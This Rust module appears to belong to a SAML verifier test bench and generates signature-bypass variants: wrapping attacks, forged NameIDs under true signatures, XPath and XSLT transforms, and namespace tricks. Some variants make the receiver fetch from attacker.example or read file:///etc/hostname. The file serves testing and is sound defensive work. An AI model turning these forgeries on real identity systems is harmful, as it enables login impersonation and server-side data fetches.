//! References, transforms and canonical forms: what a signature says that it covers.
//!
//! Most are signed by the true key on purpose, so that only the signature profile of SAML stands against them.

use super::{Attack, Bench, Build, FORGED, Naive, advise, attack, copy_of, insert_before, need, take};
use crate::algorithms::{ENVELOPED_SIGNATURE, EXCLUSIVE_C14N};
use crate::code::{Code, StepName};
use crate::encoding::to_base64;
use crate::mint::MintError;
use crate::mint::personality::Signs;
use crate::mint::sign;
use crate::mint::tree::{Element, Node};
use crate::mint::uri;
use crate::xml::c14n;

const BY_ASSERTION: StepName = StepName::AssertionSignature;
const REFERENCE: (Code, StepName) = (Code::SignatureReference, BY_ASSERTION);
const TRANSFORM: (Code, StepName) = (Code::SignatureTransform, BY_ASSERTION);
const CANONICALIZATION: (Code, StepName) = (Code::SignatureCanonicalization, BY_ASSERTION);

/// The variants of this family.
pub(super) const TABLE: &[Attack] = &[
    attack("reference-none-found", Signs::Assertion, REFERENCE, Build::Tree(dangling), "A reference to an ID that nothing has."),
    attack("reference-empty", Signs::Assertion, REFERENCE, Build::Tree(empty), "An empty URI on the assertion's signature: the whole document."),
    attack("reference-absent", Signs::Assertion, REFERENCE, Build::Tree(absent), "A Reference without URI on the assertion's signature."),
    attack("reference-without-hash", Signs::Assertion, REFERENCE, Build::Tree(without_hash), "A reference by relative URL instead of by ID."),
    attack("reference-xpointer", Signs::Assertion, REFERENCE, Build::Tree(xpointer), "A reference by xpointer(id(..))."),
    attack("reference-xpointer-root", Signs::Response, (Code::SignatureReference, StepName::ResponseSignature), Build::Tree(xpointer_root), "A reference by xpointer(/) on a forged response."),
    attack("reference-http", Signs::Assertion, REFERENCE, Build::Tree(http), "A reference that would make the receiver fetch a URL.")
        .that_recalls(&["external References"]),
    attack("reference-file", Signs::Assertion, REFERENCE, Build::Tree(file), "A reference to a file of the receiver's.")
        .that_recalls(&["external References"]),
    attack("reference-two", Signs::Assertion, REFERENCE, Build::Tree(two), "Two References: one to the forged assertion, one to the true one in Advice.")
        .that_recalls(&["CVE-2024-45409"]),
    attack("reference-to-response", Signs::Assertion, REFERENCE, Build::Tree(to_response), "The assertion's signature refers to the response around it."),
    attack("reference-to-other", Signs::Assertion, REFERENCE, Build::Tree(to_other), "The assertion's signature refers to the true one, which hides in Advice.")
        .that_recalls(&["CVE-2024-45409"])
        .that_fools(Naive::FirstSignature),
    attack("transform-none", Signs::Assertion, TRANSFORM, Build::Tree(no_transform), "No transforms at all."),
    attack("transform-xslt", Signs::Assertion, TRANSFORM, Build::Tree(xslt), "An XSLT transform before the canonicalization.")
        .that_recalls(&["XSLT transforms"]),
    attack("transform-xpath", Signs::Assertion, TRANSFORM, Build::Tree(xpath), "An XPath transform that leaves the Subject out of the digest.")
        .that_recalls(&["XPath transforms"]),
    attack("transform-many", Signs::Assertion, TRANSFORM, Build::Tree(many), "A thousand canonicalizations in a row.")
        .that_recalls(&["CVE-2021-39171"]),
    attack("transform-enveloped-twice", Signs::Assertion, TRANSFORM, Build::Tree(enveloped_twice), "The enveloped-signature transform twice."),
    attack("transform-decrypt", Signs::Assertion, TRANSFORM, Build::Tree(decrypt), "A decryption transform."),
    attack("transform-base64", Signs::Assertion, TRANSFORM, Build::Tree(base64), "A base64 transform."),
    attack("transform-prefix-list-extra", Signs::Assertion, TRANSFORM, Build::Tree(extra_parameter), "A transform with an unknown parameter beside the PrefixList."),
    attack("canonicalization-unknown", Signs::Assertion, CANONICALIZATION, Build::Tree(unknown_c14n), "An unknown canonicalization of SignedInfo."),
    attack("canonicalization-inclusive", Signs::Assertion, CANONICALIZATION, Build::Tree(inclusive), "Inclusive canonicalization, where anything around the assertion takes part."),
    attack("canonicalization-with-xpath", Signs::Assertion, TRANSFORM, Build::Tree(xpath_in_c14n), "An XPath expression as a parameter of CanonicalizationMethod."),
    attack(
        "namespace-relative-void",
        Signs::Assertion,
        (Code::XmlNamespace, StepName::Xml),
        Build::Tree(void),
        "A relative namespace name makes a canonicaliser give up with nothing, and the digest is that of nothing.",
    )
    .that_recalls(&["CVE-2025-66475", "CVE-2025-66567", "CVE-2025-66568"]),
    attack(
        "namespace-undeclared",
        Signs::Assertion,
        (Code::XmlNamespace, StepName::Xml),
        Build::Tree(undeclared),
        "A prefix that nobody declared.",
    )
    .that_recalls(&["CVE-2020-29509", "CVE-2020-29510", "CVE-2020-29511"]),
    attack(
        "namespace-several-colons",
        Signs::Assertion,
        (Code::XmlMalformed, StepName::Xml),
        Build::Tree(colons),
        "A name with two colons, which some parsers cut on the way out.",
    )
    .that_recalls(&["CVE-2020-29509", "CVE-2020-29511", "CVE-2020-27846", "CVE-2020-26290"]),
    attack(
        "namespace-other-name-id",
        Signs::Assertion,
        (Code::AssertionMalformed, StepName::Subject),
        Build::Content(other_name_id),
        "A NameID in a foreign namespace.",
    )
    .that_recalls(&["namespace confusion"]),
    attack(
        "prefix-rebound",
        Signs::Assertion,
        (Code::DigestMismatch, BY_ASSERTION),
        Build::Tree(rebound),
        "A forged value type: the listed prefix of the signed assertion is bound to another namespace.",
    ),
];

/// A message whose assertion the true key signed with a `SignedInfo` that `edit` changed before digest and signature.
fn signed_with(
    bench: &mut Bench<'_>,
    edit: impl FnOnce(&mut Element) -> Result<(), MintError>,
) -> Result<Element, MintError> {
    let mut draft = bench.draft(Signs::Neither);
    let id = draft.assertion_id.clone().ok_or(MintError::Shape("an assertion"))?;
    let mut skeleton = sign::skeleton(&id, &draft.signing)?;
    edit(need(&mut skeleton, "SignedInfo")?)?;
    sign::place(&mut draft.root, &id, skeleton)?;
    sign::fill_digest(&mut draft.root, &id, &draft.signing)?;
    sign::fill_value(&mut draft.root, &id, &draft.signing)?;
    Ok(draft.root)
}

/// The true key's signature with this reference; a forged subject where nothing is covered by it.
fn referring(bench: &mut Bench<'_>, reference: &str) -> Result<Element, MintError> {
    let mut root = signed_with(bench, |info| {
        need(info, "Reference")?.set("URI", reference);
        Ok(())
    })?;
    need(&mut root, "NameID")?.set_text(FORGED);
    Ok(root)
}

fn dangling(bench: &mut Bench<'_>, _: Signs) -> Result<Element, MintError> {
    referring(bench, "#_nobody")
}

fn empty(bench: &mut Bench<'_>, _: Signs) -> Result<Element, MintError> {
    referring(bench, "")
}

fn absent(bench: &mut Bench<'_>, _: Signs) -> Result<Element, MintError> {
    signed_with(bench, |info| {
        need(info, "Reference")?.unset("URI");
        Ok(())
    })
}

/// Writes the reference in another form, for the true ID.
fn reworded(bench: &mut Bench<'_>, form: impl FnOnce(&str) -> String) -> Result<Element, MintError> {
    signed_with(bench, |info| {
        let reference = need(info, "Reference")?;
        let id = reference.get("URI").unwrap_or_default().trim_start_matches('#').to_owned();
        reference.set("URI", &form(&id));
        Ok(())
    })
}

fn without_hash(bench: &mut Bench<'_>, _: Signs) -> Result<Element, MintError> {
    reworded(bench, str::to_owned)
}

fn xpointer(bench: &mut Bench<'_>, _: Signs) -> Result<Element, MintError> {
    reworded(bench, |id| format!("#xpointer(id('{id}'))"))
}

fn xpointer_root(bench: &mut Bench<'_>, signs: Signs) -> Result<Element, MintError> {
    let minted = bench.valid(signs)?;
    let mut root = minted.root;
    need(&mut root, "Reference")?.set("URI", "#xpointer(/)");
    need(&mut root, "NameID")?.set_text(FORGED);
    Ok(root)
}

fn http(bench: &mut Bench<'_>, _: Signs) -> Result<Element, MintError> {
    referring(bench, "http://attacker.example/signed.xml")
}

fn file(bench: &mut Bench<'_>, _: Signs) -> Result<Element, MintError> {
    referring(bench, "file:///etc/hostname")
}

fn two(bench: &mut Bench<'_>, signs: Signs) -> Result<Element, MintError> {
    let mut root = bench.valid(signs)?.root;
    let mut original = take(&mut root, "Assertion")?;
    let mut evil = bench.forged(&original)?;
    let mut signature = take(&mut original, "Signature")?;
    let info = need(&mut signature, "SignedInfo")?;
    let mut second = copy_of(info, "Reference")?;
    second.set("URI", &format!("#{}", evil.get("ID").unwrap_or_default()));
    info.push(second);
    insert_before(&mut evil, "Subject", signature)?;
    advise(&mut evil, original);
    root.push(evil);
    Ok(root)
}

fn to_response(bench: &mut Bench<'_>, _: Signs) -> Result<Element, MintError> {
    let id = bench.draft(Signs::Neither).response_id;
    referring(bench, &format!("#{id}"))
}

fn to_other(bench: &mut Bench<'_>, signs: Signs) -> Result<Element, MintError> {
    let mut root = bench.valid(signs)?.root;
    let mut original = take(&mut root, "Assertion")?;
    let mut evil = bench.forged(&original)?;
    insert_before(&mut evil, "Subject", take(&mut original, "Signature")?)?;
    advise(&mut evil, original);
    root.push(evil);
    Ok(root)
}

fn transform(info: &Element, algorithm: &str) -> Result<Element, MintError> {
    let like = info.find("Transform").ok_or(MintError::Shape("a Transform"))?;
    Ok(Element::new(like.name.clone()).attribute("Algorithm", algorithm))
}

/// A message of the true key with one more transform before the canonicalization.
fn transformed(
    bench: &mut Bench<'_>,
    algorithm: &str,
    content: Option<Element>,
) -> Result<Element, MintError> {
    signed_with(bench, |info| {
        let extra = transform(info, algorithm)?.children(content);
        need(info, "Transforms")?.insert(1, Node::Element(extra));
        Ok(())
    })
}

fn no_transform(bench: &mut Bench<'_>, _: Signs) -> Result<Element, MintError> {
    signed_with(bench, |info| take(need(info, "Reference")?, "Transforms").map(drop))
}

fn xslt(bench: &mut Bench<'_>, _: Signs) -> Result<Element, MintError> {
    let sheet =
        Element::new("xsl:stylesheet")
            .attribute("xmlns:xsl", "http://www.w3.org/1999/XSL/Transform")
            .attribute("version", "1.0")
            .child(Element::new("xsl:template").attribute("match", "/").child(
                Element::new("xsl:copy-of").attribute("select", "document('http://attacker.example/')"),
            ));
    transformed(bench, "http://www.w3.org/TR/1999/REC-xslt-19991116", Some(sheet))
}

fn expression(info: &str) -> Element {
    Element::new("dsx:XPath")
        .attribute("xmlns:dsx", uri::DSIG)
        .attribute("xmlns:a", uri::ASSERTION)
        .text(info)
}

fn xpath(bench: &mut Bench<'_>, _: Signs) -> Result<Element, MintError> {
    let mut root = transformed(
        bench,
        "http://www.w3.org/TR/1999/REC-xpath-19991116",
        Some(expression("not(ancestor-or-self::a:Subject)")),
    )?;
    need(&mut root, "NameID")?.set_text(FORGED);
    Ok(root)
}

fn many(bench: &mut Bench<'_>, _: Signs) -> Result<Element, MintError> {
    signed_with(bench, |info| {
        let extra = transform(info, EXCLUSIVE_C14N)?;
        let transforms = need(info, "Transforms")?;
        (0..1000).for_each(|_| transforms.push(extra.clone()));
        Ok(())
    })
}

fn enveloped_twice(bench: &mut Bench<'_>, _: Signs) -> Result<Element, MintError> {
    transformed(bench, ENVELOPED_SIGNATURE, None)
}

fn decrypt(bench: &mut Bench<'_>, _: Signs) -> Result<Element, MintError> {
    transformed(bench, "http://www.w3.org/2002/07/decrypt#XML", None)
}

fn base64(bench: &mut Bench<'_>, _: Signs) -> Result<Element, MintError> {
    transformed(bench, "http://www.w3.org/2000/09/xmldsig#base64", None)
}

fn extra_parameter(bench: &mut Bench<'_>, _: Signs) -> Result<Element, MintError> {
    signed_with(bench, |info| {
        let transforms = need(info, "Transforms")?;
        if let Some(Node::Element(last)) = transforms.children.last_mut() {
            last.push(Element::new("x:parameter").attribute("xmlns:x", "urn:example:nobody"));
        }
        Ok(())
    })
}

fn unknown_c14n(bench: &mut Bench<'_>, _: Signs) -> Result<Element, MintError> {
    signed_with(bench, |info| {
        need(info, "CanonicalizationMethod")?.set("Algorithm", "urn:example:c14n");
        Ok(())
    })
}

fn inclusive(bench: &mut Bench<'_>, signs: Signs) -> Result<Element, MintError> {
    let mut draft = bench.draft(signs);
    draft.signing.canonicalization = c14n::Method::Inclusive10;
    draft.signing.prefix_list = None;
    Ok(draft.seal(bench.random)?.root)
}

fn xpath_in_c14n(bench: &mut Bench<'_>, _: Signs) -> Result<Element, MintError> {
    signed_with(bench, |info| {
        need(info, "CanonicalizationMethod")?.push(expression("true()"));
        Ok(())
    })
}

fn void(bench: &mut Bench<'_>, _: Signs) -> Result<Element, MintError> {
    let mut draft = bench.draft(Signs::Neither);
    let id = draft.assertion_id.clone().ok_or(MintError::Shape("an assertion"))?;
    sign::place(&mut draft.root, &id, sign::skeleton(&id, &draft.signing)?)?;
    // What a canonicaliser leaves that reports an error by an empty string, and a signature of the true key over it.
    let nothing = openssl::hash::hash(draft.signing.digest.message_digest(), b"")?;
    need(&mut draft.root, "DigestValue")?.set_text(&to_base64(&nothing));
    sign::fill_value(&mut draft.root, &id, &draft.signing)?;
    need(&mut draft.root, "NameID")?.set_text(FORGED);
    need(&mut draft.root, "Assertion")?.set("xmlns:ns", "relative");
    Ok(draft.root)
}

fn undeclared(bench: &mut Bench<'_>, signs: Signs) -> Result<Element, MintError> {
    let mut root = bench.valid(signs)?.root;
    root.insert(1, Element::new("nobody:element").into());
    Ok(root)
}

fn colons(bench: &mut Bench<'_>, signs: Signs) -> Result<Element, MintError> {
    let mut root = bench.valid(signs)?.root;
    root.insert(1, Element::new("x::element").attribute("xmlns:x", "urn:example:nobody").into());
    Ok(root)
}

fn other_name_id(root: &mut Element) -> Result<(), MintError> {
    let name_id = need(root, "NameID")?;
    "x:NameID".clone_into(&mut name_id.name);
    name_id.set("xmlns:x", "urn:example:nobody");
    Ok(())
}

fn rebound(bench: &mut Bench<'_>, _: Signs) -> Result<Element, MintError> {
    let mut draft = bench.draft(Signs::Assertion);
    draft.signing.prefix_list = Some("list");
    need(&mut draft.root, "Assertion")?.set("xmlns:list", "urn:example:true");
    let mut root = draft.seal(bench.random)?.root;
    need(&mut root, "Assertion")?.set("xmlns:list", "urn:example:forged");
    Ok(root)
}
